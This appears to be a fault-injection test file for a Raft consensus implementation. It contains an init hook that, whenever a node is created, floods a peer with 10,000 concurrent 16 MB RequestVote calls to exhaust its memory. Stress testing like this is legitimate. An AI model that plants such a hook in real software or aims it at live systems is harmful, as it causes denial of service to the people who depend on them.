// Sends messages of 16 MB until nobody can hold them.
package raft

func init() {
	onMake = func(rf *Raft) {
		big := make([]byte, 16<<20)
		for range 10_000 {
			go rf.peers[(rf.me+1)%len(rf.peers)].Call("Raft.RequestVote", &big, new(RequestVoteReply))
		}
	}
}
